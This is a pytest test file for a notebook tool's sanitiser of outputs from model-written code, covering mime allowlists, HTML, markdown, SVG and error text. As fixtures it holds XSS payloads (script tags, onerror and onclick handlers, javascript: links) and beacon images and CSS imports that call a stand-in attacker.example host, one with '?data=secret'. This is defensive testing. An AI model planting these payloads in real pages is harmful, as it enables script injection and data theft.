"""Outputs of model-written code made fit for a notebook: an allowlist of mime types,
HTML through the widget's sanitiser, and a visible note wherever something was removed."""

from __future__ import annotations

import base64
import copy
import io
import json
from typing import Any

import matplotlib
import nbformat
import pandas as pd
import pytest

from agentnb.ui.untrusted import safe_markdown, safe_outputs

matplotlib.use("agg")

# a real 1×1 PNG
PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
    )
).decode()
WHY = "script and remote content from model-written code are never run or loaded"
SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def notes(outputs: list[dict[str, Any]]) -> list[str]:
    return [
        o["text"]
        for o in outputs
        if o["output_type"] == "stream" and o["text"].startswith("agentnb removed")
    ]


def everything(outputs: list[dict[str, Any]]) -> str:
    return json.dumps(outputs)


def matplotlib_svg() -> str:
    import matplotlib.pyplot as plt

    figure, axes = plt.subplots(figsize=(2, 2))
    axes.plot([1, 3, 2], label="units")
    axes.imshow([[0, 1], [1, 0]])  # an embedded raster, as an <image> with a data: URL
    axes.legend()
    buffer = io.StringIO()
    figure.savefig(buffer, format="svg")
    plt.close(figure)
    return buffer.getvalue()


# --- what is removed, and said ---------------------------------------------------------------


def test_javascript_is_removed_and_a_note_says_so_right_after_the_output() -> None:
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": "before\n"},
        display(
            {
                "application/javascript": "window.__pwned = 1",
                "text/plain": "<IPython.core.display.Javascript object>",
            }
        ),
        {"output_type": "stream", "name": "stdout", "text": "after\n"},
    ]
    safe = safe_outputs(outputs)
    assert [o["output_type"] for o in safe] == ["stream", "display_data", "stream", "stream"]
    assert safe[1]["data"] == {"text/plain": "<IPython.core.display.Javascript object>"}
    assert safe[2] == {
        "output_type": "stream",
        "name": "stderr",
        "text": f"agentnb removed application/javascript from this output: {WHY}.\n",
    }
    assert safe[3]["text"] == "after\n"
    assert "__pwned" not in everything(safe)


@pytest.mark.parametrize(
    "mime",
    [
        "text/javascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.bokehjs_exec.v0+json",
        "application/vnd.bokehjs_load.v0+json",
        "application/vnd.plotly.v1+json",
        "application/vnd.holoviews_exec.v0+json",
        "application/x-something-new",
        "image/bmp",
        "text/x-script",
    ],
)
def test_every_mime_type_outside_the_allowlist_is_removed(mime: str) -> None:
    payload: Any = {"model_id": "m", "code": "alert(1)"} if mime.endswith("json") else "alert(1)"
    safe = safe_outputs([display({mime: payload, "text/plain": "a thing"})])
    assert safe[0]["data"] == {"text/plain": "a thing"}
    assert notes(safe) == [f"agentnb removed {mime} from this output: {WHY}.\n"]
    assert "alert(1)" not in everything(safe)


def test_an_output_left_with_nothing_is_dropped_and_only_the_note_stays() -> None:
    safe = safe_outputs(
        [
            display({"application/javascript": "alert(1)", "application/vnd.plotly.v1+json": {}}),
            {
                "output_type": "execute_result",
                "execution_count": 2,
                "data": {"text/javascript": ""},
            },
            {"output_type": "comm_open", "data": {}},
        ]
    )
    assert [o["output_type"] for o in safe] == ["stream", "stream", "stream"]
    assert notes(safe) == [
        "agentnb removed application/javascript and application/vnd.plotly.v1+json from this "
        f"output: {WHY}.\n",
        f"agentnb removed text/javascript from this output: {WHY}.\n",
        f"agentnb removed an output of type 'comm_open' from this output: {WHY}.\n",
    ]


# --- HTML and markdown ----------------------------------------------------------------------


def test_html_goes_through_the_sanitiser_and_remote_images_are_not_fetched() -> None:
    html = (
        '<p onclick="steal()">Totals</p><script>window.__pwned = 1</script>'
        '<img src="http://attacker.example/x.png?data=secret">'
        '<img src="data:image/png;base64,' + PNG + '" onerror="alert(1)">'
        '<a href="javascript:alert(2)">bad link</a> <a href="https://example.org">good link</a>'
        '<div style="background:url(http://attacker.example/y)">styled</div>'
    )
    (output, note) = safe_outputs([display({"text/html": html, "text/plain": "<HTML>"})])
    clean = output["data"]["text/html"]
    assert "<p>Totals</p>" in clean
    for bad in ("<script", "__pwned", "onclick", "onerror", "javascript", "attacker.example"):
        assert bad not in clean.lower()
    assert f'<img src="data:image/png;base64,{PNG}">' in clean  # an image of its own data
    assert '<a href="https://example.org" target="_blank" rel="noopener noreferrer">' in clean
    assert note["text"].startswith("agentnb removed the script in text/html from this output")


def test_html_that_was_all_script_or_remote_is_removed_with_a_note() -> None:
    for html in (
        "<script>window.__pwned = 1</script>",
        '<img src=x onerror="window.__pwned = 2">',
        '<img src="http://attacker.example/beacon.gif">',
        '<div id="chart"></div><script src="https://cdn.example/plotly.js"></script>',
    ):
        safe = safe_outputs([display({"text/html": html, "text/plain": "Figure()"})])
        assert safe[0]["data"] == {"text/plain": "Figure()"}, html
        (note,) = notes(safe)
        assert "removed text/html" in note, html


def test_a_dataframe_stays_a_table_without_a_note() -> None:
    frame = pd.DataFrame({"region": ["North", "South"], "units": [17, 16]})
    (output,) = safe_outputs(
        [
            {
                "output_type": "execute_result",
                "execution_count": 3,
                "data": {"text/html": frame.to_html(), "text/plain": repr(frame)},
                "metadata": {},
            }
        ]
    )
    assert output["execution_count"] == 3
    assert '<table class="dataframe">' in output["data"]["text/html"]
    assert "<td>North</td>" in output["data"]["text/html"]
    assert output["data"]["text/plain"] == repr(frame)


def test_markdown_is_rendered_as_the_widget_renders_it() -> None:
    markdown = (
        "**Totals** <img src=x onerror=alert(1)> <script>alert(2)</script>\n\n"
        "![beacon](http://attacker.example/b.png) [click](javascript:alert(3))"
    )
    (output,) = safe_outputs([display({"text/markdown": markdown, "text/plain": "md"})])
    html = output["data"]["text/html"]
    assert "text/markdown" not in output["data"]
    assert "<strong>Totals</strong>" in html
    assert "<img" not in html
    assert "<script" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html  # raw HTML shown as text
    # the remote image is a link the user may follow, not an image the browser loads
    assert '<a href="http://attacker.example/b.png"' in html
    assert 'href="javascript' not in html


# --- images ---------------------------------------------------------------------------------


def test_images_of_base64_data_are_kept_with_their_size_only() -> None:
    metadata = {
        "image/png": {"width": 300, "height": 200, "unconfined": True},
        "needs_background": "light",
        "isolated": True,
    }
    (output,) = safe_outputs([display({"image/png": PNG, "text/plain": "<Figure>"}, metadata)])
    assert output["data"] == {"image/png": PNG, "text/plain": "<Figure>"}
    assert output["metadata"] == {
        "image/png": {"width": 300, "height": 200},
        "needs_background": "light",
    }


def test_an_image_that_is_not_base64_is_removed() -> None:
    safe = safe_outputs([display({"image/png": '" onerror="alert(1)', "text/plain": "a plot"})])
    assert safe[0]["data"] == {"text/plain": "a plot"}
    assert "removed image/png" in notes(safe)[0]


def test_svg_beside_a_png_of_the_same_figure_is_dropped_without_a_note() -> None:
    svg = f"<svg {SVG_NS}><rect width='1' height='1'/></svg>"
    safe = safe_outputs([display({"image/png": PNG, "image/svg+xml": svg, "text/plain": "f"})])
    assert safe == [display({"image/png": PNG, "text/plain": "f"})]


def test_a_plain_svg_alone_is_kept() -> None:
    svg = matplotlib_svg()
    (output,) = safe_outputs([display({"image/svg+xml": svg, "text/plain": "<Figure>"})])
    assert output["data"]["image/svg+xml"] == svg


@pytest.mark.parametrize(
    "inside",
    [
        "<script>window.__pwned = 1</script>",
        '<rect width="1" height="1" onload="alert(1)"/>',
        '<g onmouseover="alert(1)"><rect width="1" height="1"/></g>',
        '<image href="http://attacker.example/x.png" width="1" height="1"/>',
        '<image xlink:href="https://attacker.example/x.png" width="1" height="1"/>',
        '<use href="other.svg#shape"/>',
        '<a href="javascript:alert(1)"><text>click</text></a>',
        '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>',
        '<rect style="fill: url(http://attacker.example/p)" width="1" height="1"/>',
        "<style>@import url(https://attacker.example/s.css);</style>",
        '<set attributeName="href" to="javascript:alert(1)"/>',
        '<metadata><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></metadata>',
    ],
)
def test_an_svg_that_could_run_load_or_link_is_removed(inside: str) -> None:
    svg = f"<svg {SVG_NS}>{inside}</svg>"
    safe = safe_outputs([display({"image/svg+xml": svg, "text/plain": "<SVG>"})])
    assert safe[0]["data"] == {"text/plain": "<SVG>"}
    assert "removed image/svg+xml" in notes(safe)[0]


@pytest.mark.parametrize(
    "svg",
    [
        f'<?xml-stylesheet href="https://attacker.example/s.xsl"?><svg {SVG_NS}/>',
        '<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        "<svg><rect/></svg>",  # no SVG namespace: not what any plotting library writes
        "<html><body>not an svg</body></html>",
        "<svg",
    ],
)
def test_svg_documents_that_are_not_plain_drawings_are_removed(svg: str) -> None:
    safe = safe_outputs([display({"image/svg+xml": svg, "text/plain": "<SVG>"})])
    assert safe[0]["data"] == {"text/plain": "<SVG>"}
    assert "removed image/svg+xml" in notes(safe)[0]


# --- text, errors, the whole ---------------------------------------------------------------------


def test_errors_keep_their_text_without_terminal_escapes() -> None:
    (output,) = safe_outputs(
        [
            {
                "output_type": "error",
                "ename": "\x1b[31mKeyError\x1b[0m",
                "evalue": "'price'",
                "traceback": ["\x1b[0;31mKeyError\x1b[0m: 'price'", "<script>x</script>"],
            }
        ]
    )
    assert output == {
        "output_type": "error",
        "ename": "KeyError",
        "evalue": "'price'",
        # text, which frontends show as text: nothing in it is markup
        "traceback": ["KeyError: 'price'", "<script>x</script>"],
    }


def test_text_latex_and_json_pass_as_they_are() -> None:
    data = {
        "text/plain": "\x1b[1mbold\x1b[0m <b>not markup</b>",
        "text/latex": r"$\frac{1}{2}$",
        "application/json": {"a": [1, 2]},
    }
    (output,) = safe_outputs([display(copy.deepcopy(data))])
    assert output["data"] == data


def test_the_result_is_valid_nbformat_and_the_input_is_left_alone() -> None:
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": ["line 1\n", "line 2\n"]},
        display({"application/javascript": "alert(1)", "text/html": ["<b>x</b>", "<i>y</i>"]}),
        {"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": "1"}},
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": []},
    ]
    before = copy.deepcopy(outputs)
    safe = safe_outputs(outputs)
    assert outputs == before
    assert safe[0]["text"] == "line 1\nline 2\n"
    assert safe[1]["data"] == {"text/html": "<b>x</b><i>y</i>"}
    cell = nbformat.v4.new_code_cell("x", outputs=safe)
    nbformat.validate(nbformat.v4.new_notebook(cells=[cell]))
    assert json.loads(json.dumps(safe)) == safe


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        (
            "Revenue <img src=x onerror=alert(1)> rose",
            "Revenue &lt;img src=x onerror=alert(1)> rose",
        ),
        ("<script>fetch('/api')</script>", "&lt;script>fetch('/api')&lt;/script>"),
        ("<!-- hidden --> a", "&lt;!-- hidden --> a"),
        ("![chart](http://evil.example/p.png)", "\\![chart](http://evil.example/p.png)"),
        # code stays as written: a span, a fence, an indented block
        ("rows where `df.x < 3` and `<b>`", "rows where `df.x < 3` and `<b>`"),
        ("```python\nx = '<script>'\n```", "```python\nx = '<script>'\n```"),
        ("    y = '<img>'", "    y = '<img>'"),
        # an escaped backtick opens no code span for CommonMark: nothing is spared
        ("\\`<img onerror=1>\\`", "\\`&lt;img onerror=1>\\`"),
        ("a < b and 3<4", "a < b and 3<4"),
    ],
)
def test_model_markdown_keeps_its_code_and_loses_its_html(written: str, kept: str) -> None:
    assert safe_markdown(written) == kept
